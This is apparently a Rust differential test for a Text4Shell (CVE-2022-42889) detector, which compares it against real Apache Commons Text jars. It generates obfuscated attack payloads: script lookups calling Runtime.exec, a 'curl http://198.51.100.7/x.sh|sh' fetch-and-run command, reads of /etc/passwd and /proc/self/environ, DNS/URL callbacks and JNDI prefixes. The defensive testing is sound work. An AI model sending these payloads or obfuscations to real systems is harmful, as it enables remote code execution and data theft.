//! Differential test against the JVM for Text4Shell (CVE-2022-42889): Apache Commons Text's own
//! `StringSubstitutor` with the lookups of `StringSubstitutor.createInterpolator()`
//! (tests/oracle/TextOracle.java, compiled here with `javac` against the real release jars), the
//! acting lookups (`script`, `dns`, `url`, `file`, `xml`, `properties`) replaced by recorders.
//! For every vector of the corpus, every transport-decoded form of one, benign log lines and
//! 10,000 generated obfuscations, quell's [`TextEvaluator`] must agree with commons-text 1.9 (the
//! affected behaviour) and 1.10.0 (the fixed one) on the recorded actions in order, on whether
//! `replace` throws, and on the substituted text (except where a `date` lookup formats the clock).
//! Its cheap inertness proof must never call a text inert that the JVM acts on.
//!
//! Needs `javac`/`java`, the real jars in `$QUELL_PACK_JARS` (`scripts/fetch-pack-jars`, run by
//! `scripts/test`) and commons-lang3 (`$QUELL_COMMONS_LANG3`, default
//! `/usr/share/java/commons-lang3.jar`, Debian's `libcommons-lang3-java`, which `scripts/test`
//! installs). Without them the test fails: the oracle is never skipped.

mod common;

use std::path::{Path, PathBuf};

use common::{Rng, b64_list, b64d, b64e, benign, run_java_oracle, vectors};
use quell_hunt::{Decoder, TextEvaluator, TextVersion};

/// How many generated payloads go to the JVM.
const GENERATED: usize = 10_000;
/// How many benign log lines go to the JVM (they must record nothing).
const BENIGN: usize = 2_000;
const SEED: u64 = 0x7e47_4511_2022_1013;

fn pack_jars() -> PathBuf {
    let dir = std::env::var_os("QUELL_PACK_JARS")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/pack-jars"));
    assert!(
        dir.join("commons-text-1.9.jar").is_file() && dir.join("commons-text-1.10.0.jar").is_file(),
        "the real commons-text jars are missing in {}: run scripts/fetch-pack-jars (scripts/test does)",
        dir.display()
    );
    dir
}

fn lang3() -> PathBuf {
    let p = std::env::var_os("QUELL_COMMONS_LANG3")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/usr/share/java/commons-lang3.jar"));
    assert!(p.is_file(), "commons-lang3 is missing at {} (scripts/test installs libcommons-lang3-java)", p.display());
    p
}

struct JvmAnswer {
    status: String,
    events: Vec<String>,
    output: String,
}

fn run_jvm(jar: &str, payloads: &[String]) -> Vec<JvmAnswer> {
    let cp_jars = format!("{}:{}", pack_jars().join(jar).display(), lang3().display());
    run_java_oracle("TextOracle", &cp_jars, &["-Xss8m"], payloads, 3)
        .into_iter()
        .map(|p| JvmAnswer {
            status: p[0].clone(),
            events: b64_list(&p[1]),
            output: String::from_utf8(b64d(&p[2])).expect("utf-8 output"),
        })
        .collect()
}

const ENGINES: &[&str] = &["javascript", "js", "JavaScript", "nashorn", "groovy", "ecmascript"];
const COMMANDS: &[&str] = &["id", "touch /tmp/pwned", "curl http://198.51.100.7/x.sh|sh", "nslookup x.oast.example"];

/// A random acting payload (the inside of `${...}`).
fn random_action(r: &mut Rng) -> String {
    let cmd = *r.pick(COMMANDS);
    let host = match r.below(3) {
        0 => format!("{}.{}.{}.{}", r.below(256), r.below(256), r.below(256), r.below(256)),
        1 => format!("h{}.oast.example", r.next() % 1_000_000),
        _ => "localhost".to_owned(),
    };
    match r.below(9) {
        0 | 1 => format!(
            "{}:{}:java.lang.Runtime.getRuntime().exec('{cmd}')",
            r.pick(&["script", "SCRIPT", "Script"]),
            r.pick(ENGINES)
        ),
        2 => format!("script:{}:{}", r.pick(ENGINES), r.pick(&["1+1", "var a=1;a", "x", ""])),
        3 => format!(
            "{}:{}{host}",
            r.pick(&["dns", "DNS", "Dns"]),
            r.pick(&["", "address|", "name|", "canonical-name|", " address | ", "|"])
        ),
        4 => format!("{}:UTF-8:http://{host}:{}/{}", r.pick(&["url", "URL", "uRl"]), r.below(65536), r.next() % 1000),
        5 => format!("url:{}", r.pick(&["UTF-8", "x", ""])),
        6 => format!("file:UTF-8:{}", r.pick(&["/etc/passwd", "/proc/self/environ", "C:\\boot.ini", ""])),
        7 => (*r.pick(&["xml:/etc/a.xml:/x", "xml:/etc/a.xml", "properties:/etc/a.properties::k", "properties:/x:k"]))
            .to_owned(),
        _ => format!("script:{}", r.pick(ENGINES)),
    }
}

fn b64(s: &str) -> String {
    b64e(s.as_bytes())
}

fn urlenc(s: &str, all: bool) -> String {
    s.bytes()
        .map(|b| if all || !b.is_ascii_alphanumeric() { format!("%{b:02X}") } else { (b as char).to_string() })
        .collect()
}

/// One random obfuscation of `inner` (the text of a lookup, without `${` and `}`).
fn wrap(r: &mut Rng, inner: &str, depth: u32) -> String {
    let plain = format!("${{{inner}}}");
    if depth > 2 {
        return plain;
    }
    match r.below(16) {
        0 => format!("${{base64Decoder:{}}}", b64(&wrap(r, inner, depth + 1))),
        1 => format!("${{BASE64:{}}}", b64(&plain).trim_end_matches('=')),
        2 => format!("${{urlDecoder:{}}}", urlenc(&wrap(r, inner, depth + 1), r.chance(30))),
        3 => format!("${{x:-{}}}", wrap(r, inner, depth + 1)),
        4 => format!("$${plain}"),
        5 => format!("$$${plain}"),
        6 => format!("${{${{lower:s}}{inner}}}"),
        7 => format!("${{env:NOPE:-{}}}", wrap(r, inner, depth + 1)),
        8 => format!("${{const:org.apache.commons.text.StringSubstitutor.DEFAULT_VAR_START}}{inner}}}"),
        9 => {
            let mut p = plain.clone();
            p.truncate(p.len() - 1 - r.below(2).min(p.len() - 1));
            while !p.is_char_boundary(p.len()) {
                p.pop();
            }
            p
        }
        10 => format!("${{{inner}}}${{sys:java.version}}${{java:os}}${{localhost:name}}"),
        11 => format!("${{base64Decoder:{}}}", b64(&plain).replace('=', "")),
        12 => format!("${{base64Decoder:{}!}}", b64(&plain)),
        13 => format!("${{urlDecoder:%2}}{plain}"),
        14 => format!("${{date:'j'}}{plain}${{base64Encoder:{inner}}}${{urlEncoder:{inner}}}"),
        _ => plain,
    }
}

/// A random payload: an acting lookup, obfuscated, sometimes inside a request, a Log4Shell
/// payload, or cyclic.
fn generate(r: &mut Rng) -> String {
    let inner = random_action(r);
    let mut p = wrap(r, &inner, 0);
    match r.below(10) {
        0 => p = format!("GET /search?q={p} HTTP/1.1"),
        1 => {
            let second = random_action(r);
            p = format!("{p} and {}", wrap(r, &second, 0));
        }
        2 => p = format!("${{jndi:ldap://x/{}}}{p}", r.below(10)),
        3 => p = format!("${{a:-${{a}}}}{p}"),
        4 => p = format!("${{base64Decoder:{}}}", b64("${base64Decoder:JHthfQ==}")),
        _ => {}
    }
    p
}

#[test]
fn quell_agrees_with_commons_text() {
    let ev = TextEvaluator::default();
    let decoder = Decoder::default();
    let mut payloads: Vec<String> = Vec::new();
    let mut labels: Vec<String> = Vec::new();
    for v in &vectors() {
        let text = String::from_utf8_lossy(&v.input).into_owned();
        for (i, var) in decoder.variants(&text).into_iter().enumerate() {
            payloads.push(var.text);
            labels.push(format!("{} (decoded {})", v.id, i + 1));
        }
        payloads.push(text);
        labels.push(format!("{} (as logged)", v.id));
    }
    let mut g = benign::Rng(7);
    for n in 0..BENIGN {
        payloads.push(benign::benign_line(&mut g, n as u64));
        labels.push(format!("benign #{n}"));
    }
    let n_fixed = payloads.len();
    let mut r = Rng(SEED);
    for i in 0..GENERATED {
        payloads.push(generate(&mut r));
        labels.push(format!("generated #{i}"));
    }
    let mut failures = Vec::new();
    let mut acting = 0;
    for (jar, version) in [("commons-text-1.9.jar", TextVersion::V1_9), ("commons-text-1.10.0.jar", TextVersion::V1_10)]
    {
        let answers = run_jvm(jar, &payloads);
        for ((p, label), jvm) in payloads.iter().zip(&labels).zip(&answers) {
            let e = ev.evaluate(p, version);
            let events: Vec<String> = e.events.iter().map(|x| x.oracle_form()).collect();
            let status = e.outcome.status();
            let clock = p.to_ascii_lowercase().contains("date:");
            if version == TextVersion::V1_9 && !jvm.events.is_empty() {
                acting += 1;
            }
            if !jvm.events.is_empty() && ev.is_inert(p.as_bytes()) {
                failures.push(format!("{jar} {label}: judged inert, but the JVM records {:?}", jvm.events));
            }
            if label.starts_with("benign") && !jvm.events.is_empty() {
                failures.push(format!("{jar} {label}: the benign generator produced a payload: {p:?}"));
            }
            let output_differs = !clock && jvm.status == "ok" && e.output != jvm.output;
            if events != jvm.events || status != jvm.status || output_differs {
                failures.push(format!(
                    "{jar} {label}: payload {p:?}\n  quell {events:?} {status} {:?}\n  jvm   {:?} {} {:?}",
                    e.output, jvm.events, jvm.status, jvm.output
                ));
            }
        }
    }
    eprintln!(
        "commons-text oracle: {} payloads ({n_fixed} from vectors and benign lines, {GENERATED} generated) x 2 releases, {acting} acting on 1.9, {} disagreements",
        payloads.len(),
        failures.len()
    );
    assert!(
        failures.is_empty(),
        "{} disagreements:\n{}",
        failures.len(),
        failures.iter().take(25).cloned().collect::<Vec<_>>().join("\n")
    );
    assert!(acting > GENERATED / 5, "the generator should often produce acting payloads ({acting})");
}
